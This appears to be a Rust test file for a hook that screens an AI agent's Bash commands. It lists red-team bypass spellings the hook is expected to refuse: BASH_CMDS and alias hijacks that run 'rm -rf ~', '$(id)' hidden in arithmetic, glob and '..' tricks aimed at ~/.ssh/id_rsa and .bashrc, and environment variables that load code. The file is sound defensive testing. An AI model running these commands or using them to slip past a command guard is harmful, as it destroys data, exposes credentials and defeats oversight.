//! Issue 13: the red team's classes in the unconfined decision (nothing
//! confines the command: the hook without `--rewrite`, `check
//! --unconfined`). Every class has several spellings; each must be refused
//! by `check --unconfined` (deny or ask), by the hook's exit-code protocol
//! (exit 2) and by its JSON protocol (`deny` or `ask`). Beside each class,
//! ordinary commands of the same shape stay allowed (the positive control:
//! exit 0 and no opinion from the hook).
use crate::common::policy as common;
use common::*;

use serde_json::{Value, json};
use std::io::Write as _;
use std::process::Stdio;

/// `check --unconfined --json -c CMD`: the decision.
fn unconfined(w: &World, cmd: &str) -> (String, String) {
    let (code, v) = w.check_json_args(&["--unconfined", "-c", cmd]);
    assert_eq!(
        v["confined"], false,
        "{cmd}: check --unconfined must say so"
    );
    assert!(matches!(code, 0 | 2 | 3), "check exit {code} for {cmd:?}");
    let reasons = v["reasons"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|r| r.as_str())
                .collect::<Vec<_>>()
                .join(" | ")
        })
        .unwrap_or_default();
    (v["decision"].as_str().unwrap_or("?").to_string(), reasons)
}

/// Runs the hook (`hook` or `hook --json`) on a Bash tool call.
fn hook(w: &World, json_mode: bool, cmd: &str) -> (i32, String, String) {
    let input = json!({
        "session_id": "unconfined-test",
        "cwd": w.cwd,
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": cmd},
    });
    let mut c = w.cmd();
    c.arg("hook");
    if json_mode {
        c.arg("--json");
    }
    c.stdin(Stdio::piped());
    let mut child = c.spawn().expect("spawn hook");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(input.to_string().as_bytes())
        .expect("write hook input");
    let out = child.wait_with_output().expect("hook output");
    (code(&out), stdout(&out), stderr(&out))
}

/// Every spelling is refused in `check --unconfined` and both hook protocols.
fn refused(class: &str, cases: &[&str]) {
    let w = World::new();
    setup(&w);
    let mut fails = Vec::new();
    for c in cases {
        let (d, reasons) = unconfined(&w, c);
        if d == "allow" {
            fails.push(format!("check --unconfined allowed {c:?}"));
        }
        let (code, _, err) = hook(&w, false, c);
        if code != 2 {
            fails.push(format!(
                "hook (exit codes) gave {code} for {c:?}: {err} [{reasons}]"
            ));
        }
        let (code, out, _) = hook(&w, true, c);
        let v: Value = serde_json::from_str(out.trim()).unwrap_or(Value::Null);
        let decision = v["hookSpecificOutput"]["permissionDecision"].as_str();
        if code != 0 || !matches!(decision, Some("deny" | "ask")) {
            fails.push(format!(
                "hook --json gave exit {code}, {decision:?} for {c:?}"
            ));
        }
    }
    assert!(fails.is_empty(), "class {class}:\n  {}", fails.join("\n  "));
}

/// Positive control: every spelling is allowed everywhere (the hook has no
/// opinion: exit 0, empty stdout).
fn allowed(class: &str, cases: &[&str]) {
    let w = World::new();
    setup(&w);
    let mut fails = Vec::new();
    for c in cases {
        let (d, reasons) = unconfined(&w, c);
        if d != "allow" {
            fails.push(format!("check --unconfined: {c:?} -> {d} ({reasons})"));
        }
        let (code, out, err) = hook(&w, false, c);
        if code != 0 {
            fails.push(format!("hook: {c:?} -> exit {code} {err}"));
        }
        // No opinion (the contract's newest word) or an explicit allow.
        let (code, out2, _) = hook(&w, true, c);
        let v: Value = serde_json::from_str(out2.trim()).unwrap_or(Value::Null);
        let decision = v["hookSpecificOutput"]["permissionDecision"].as_str();
        let no_opinion_or_allow = out2.trim().is_empty() || decision == Some("allow");
        if code != 0 || !no_opinion_or_allow || !out.trim().is_empty() {
            fails.push(format!("hook --json: {c:?} -> exit {code} {out2}"));
        }
    }
    assert!(
        fails.is_empty(),
        "ordinary {class}:\n  {}",
        fails.join("\n  ")
    );
}

/// Files the cases refer to.
fn setup(w: &World) {
    std::fs::create_dir_all(w.cwd.join("build")).unwrap();
    std::fs::create_dir_all(w.cwd.join(".git")).unwrap();
    std::fs::write(w.cwd.join("notes.txt"), "x\n").unwrap();
}

#[test]
fn bash_tables() {
    refused(
        "bash tables",
        &[
            "BASH_CMDS[cat]=/bin/rm; cat -f X",
            "BASH_ALIASES[ls]='rm -rf ~'; ls",
            "BASH_CMDS=([ls]=/bin/rm); ls x",
            "declare -A BASH_CMDS; BASH_CMDS[ls]=/bin/rm; ls",
            "read BASH_CMDS < notes.txt; ls",
            "printf -v BASH_ALIASES x; ls",
            "export SHELLOPTS; ls",
            "for BASH_CMDS in x; do ls; done",
        ],
    );
}

#[test]
fn hidden_evaluation() {
    refused(
        "hidden evaluation",
        &[
            "a='b[$(id)]'; echo $((a))",
            "echo $((x + 1))",
            "echo $[x]",
            "[[ a -eq 0 ]]",
            "[[ $n -gt 1 ]]",
            "[[ -v 'a[x]' ]]",
            "echo ${arr[a]}",
            "echo ${x:a}",
            "echo ${x:0:n}",
            "x='$(id)'; echo \"${x@P}\"",
            "echo ${!ref}",
            "let a",
            "declare -i n=x",
            "unset 'a[x]'",
            "a[i]=1",
        ],
    );
    allowed(
        "arithmetic",
        &[
            "echo $((1 + 2))",
            "n=3; echo $((n * 2))",
            "for i in 1 2 3; do echo $((i + 1)); done",
            "[[ 1 -eq 1 ]]",
            "echo ${x:1:2}",
            "echo ${#x}",
            "echo ${x:-default}",
        ],
    );
}

#[test]
fn glob_then_parent_directory() {
    refused(
        "glob then ..",
        &[
            "tee -a ./.gi?/../../home/.bashrc",
            "cat ./*/../../home/.bashrc",
            "rm -f ./b*/../x",
            "cat ./@(build)/../../x",
            "cp notes.txt ./[b]uild/../../x",
        ],
    );
    allowed("globs", &["ls src/*", "cat src/*.rs", "wc -l ./*.txt"]);
}

#[test]
fn posix_classes_and_other_bracket_forms() {
    refused(
        "POSIX classes",
        &[
            "cat ~/.ss[[:alpha:]]/id_rsa",
            "cat ~/.ss[[:lower:]]/id_rsa",
            "cat ~/.ss[[=h=]]/id_rsa",
            "cat ~/.ss[[.h.]]/id_rsa",
            "cat ~/.ss[]h]/id_rsa",
            "cat ~/.@(ssh)/id_rsa",
            "cat ~/.!(x)/id_rsa",
            "cat ~/**/id_rsa",
        ],
    );
}

#[test]
fn cwd_through_control_flow() {
    refused(
        "cwd tracking",
        &[
            "cd build; false && cd /; rm -rf *",
            "true || cd ~; rm -rf .ssh",
            "if false; then cd build; fi; rm -rf ./*",
            "if true; then cd build; else cd ~; fi; rm -rf .ssh",
            "case x in y) cd ~;; esac; rm -rf .ssh",
            "for d in a b; do cd build; rm -rf x; done",
            "while false; do cd ~; done; rm -rf .ssh",
            "pushd +1; rm -rf x",
            "pushd -0 && rm -rf x",
            "cd no-such-dir; rm -rf ./*",
        ],
    );
    allowed(
        "cd",
        &[
            "cd build && ls",
            "cd build; ls",
            "mkdir -p out && cd out && ls",
            "if true; then cd build; else cd build; fi; ls",
            "(cd build && ls); ls",
        ],
    );
}

#[test]
fn code_loading_variables() {
    refused(
        "programs through the environment",
        &[
            "GCONV_PATH=. ls",
            "GLIBC_TUNABLES=glibc.malloc.check=3 ls",
            "env GCONV_PATH=. iconv -f x -t y notes.txt",
            "MANOPT=-P man ls",
            "LESS=+!id less notes.txt",
            "npm_config_script_shell=./x npm test",
            "NPM_CONFIG_PREFIX=~ npm install -g x",
            "PIP_INDEX_URL=http://example.invalid pip install x",
            "BASH_ENV=./x.sh bash -c ls",
            "PYTHONPATH=. pip list",
            "export GCONV_PATH=.; ls",
            "PAGER='sh -c id' git log",
        ],
    );
    refused(
        "config from the project",
        &[
            "HOME=. git status",
            "XDG_CONFIG_HOME=. git log",
            "GIT_INDEX_FILE=x git status",
            "GIT_DIR=x git status",
            "env HOME=. git status",
        ],
    );
    allowed(
        "assignments",
        &[
            "PAGER=cat git log",
            "GIT_PAGER=cat git log -1",
            "RUST_LOG=debug cargo --version",
            "LANG=C ls",
            "PYTHONUNBUFFERED=1 python3 --version",
            "CI=true ls",
        ],
    );
}
